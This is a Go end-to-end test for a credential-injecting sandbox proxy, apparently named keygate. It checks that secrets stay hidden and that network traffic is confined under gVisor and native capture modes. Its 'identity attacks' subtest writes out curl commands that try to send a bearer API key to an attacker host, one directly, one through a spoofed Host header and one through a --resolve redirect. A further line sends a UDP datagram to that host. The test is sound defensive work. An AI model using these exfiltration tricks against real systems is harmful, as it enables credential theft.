//go:build linux

package e2e

import (
	"fmt"
	"os/exec"
	"strings"
	"testing"
	"time"
)

// captureModes are the runtime and capture combinations that must give the
// same guarantees.
var captureModes = []struct{ runtime, capture string }{
	{"runsc", "cgroup"},
	{"runsc", "tc"},
	{"native", "tc"},
}

// TestRuntimesAndCaptureModes runs the walking skeleton's scenario and the
// proxy's identity attacks under gVisor (runsc) with both capture modes,
// and natively with tc capture: injection to the approved host works, the
// attacker receives nothing, UDP never arrives, and DNS aimed at a world
// address that runs no resolver is answered by keygate.
func TestRuntimesAndCaptureModes(t *testing.T) {
	if _, err := exec.LookPath("runsc"); err != nil {
		t.Fatal("runsc is not installed (scripts/install-runsc.sh installs it)")
	}
	w := world(t)
	metricsAddr := fmt.Sprintf("127.0.0.1:%d", freePort(t))
	a := startAgent(t, w, "--metrics-addr", metricsAddr)
	key := secret(t)
	a.mustKG("", "vault", "create", "v")
	a.mustKG(key+"\n", "cred", "add", "v", "api", "--env", "API_KEY", "--domain", w.APIHost())
	api, evil := w.APIHost(), w.AttackerHost()

	for _, m := range captureModes {
		t.Run(m.runtime+"-"+m.capture, func(t *testing.T) {
			args := []string{"--vault", "v", "--allow", evil, "--runtime", m.runtime, "--capture", m.capture}
			run := func(t *testing.T, script string) string {
				t.Helper()
				start := time.Now()
				out, errOut, code := a.run(args, script)
				if code != 0 {
					t.Fatalf("exit %d after %v\nstdout %s\nstderr %s\nagent log:\n%s", code, time.Since(start),
						out, errOut, lastLines(a.log.String(), 25))
				}
				if strings.Contains(out+errOut, key) {
					t.Fatal("the sandbox saw the secret")
				}
				return out
			}

			t.Run("placeholder and injection", func(t *testing.T) {
				out := run(t, `printf '%s\n' "$API_KEY"; curl -sS -m 10 -o /dev/null -w '%{http_code}' https://`+api+`/gv -H "Authorization: Bearer $API_KEY"`)
				lines := strings.Split(out, "\n")
				if len(lines) != 2 || !strings.HasPrefix(lines[0], "kgph_") || lines[1] != "200" {
					t.Fatalf("output %q", out)
				}
				reqs := w.Requests(api)
				if len(reqs) == 0 || reqs[len(reqs)-1].Header.Get("Authorization") != "Bearer "+key {
					t.Fatal("the API did not receive the real key")
				}
			})

			t.Run("identity attacks", func(t *testing.T) {
				before := len(w.Requests(evil))
				script := `c() { curl -sS -m 10 -w ' %{http_code}\n' -o /dev/null "$@" -H "Authorization: Bearer $API_KEY"; }; ` +
					`c https://` + evil + `/x; ` +
					`c https://` + api + `/x -H "Host: ` + evil + `"; ` +
					`c --resolve ` + api + `:443:` + w.Attacker.String() + ` https://` + api + `/x; true`
				out := run(t, script)
				if strings.Count(out, " 403") != 3 {
					t.Fatalf("want three 403s, got %q", out)
				}
				if n := len(w.Requests(evil)) - before; n != 0 {
					t.Fatalf("the attacker received %d requests", n)
				}
			})

			t.Run("UDP never arrives", func(t *testing.T) {
				run(t, `python3 -c 'import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
try:
    s.sendto(b"gvisor-udp", ("`+w.Attacker.String()+`", 9999))
except OSError:
    pass' ; sleep 0.3; true`)
				time.Sleep(300 * time.Millisecond)
				if w.Received([]byte("gvisor-udp")) {
					t.Fatal("the world received the datagram")
				}
				reason := "deny_udp"
				if m.capture == "tc" {
					reason = "steer_drop_udp"
				}
				recs := a.auditRecords(t, "--kind", "capture.deny")
				if countKind(recs, "capture.deny", func(r auditRecord) bool { return r.Reason == reason && r.Sandbox != "" }) == 0 {
					t.Fatalf("the refused datagram was not audited as %s: %+v", reason, recs)
				}
			})

			t.Run("DNS to a world address is answered by keygate", func(t *testing.T) {
				out := run(t, `dig +short +tries=1 +time=3 @`+w.StrayDNS.String()+` `+api+` A`)
				if strings.TrimSpace(out) != w.API.String() {
					t.Fatalf("dig: %q", out)
				}
				for _, d := range w.Datagrams() {
					if d.Dst.Port() == 53 {
						t.Fatalf("DNS reached the world at %s", d.Dst)
					}
				}
			})
		})
	}
	var lines []string
	for k, v := range scrape(t, metricsAddr) {
		if (strings.HasPrefix(k, "keygate_bpf_steer_events_total") || strings.HasPrefix(k, "keygate_bpf_guard_events_total")) && v > 0 {
			lines = append(lines, fmt.Sprintf("%s %v", k, v))
		}
	}
	t.Logf("veth program counters after the runs:\n%s", strings.Join(sortStrings(lines), "\n"))
	a.stop()
	if attackerSaw(w, key) || strings.Contains(a.log.String(), key) {
		t.Fatal("the secret leaked")
	}
}
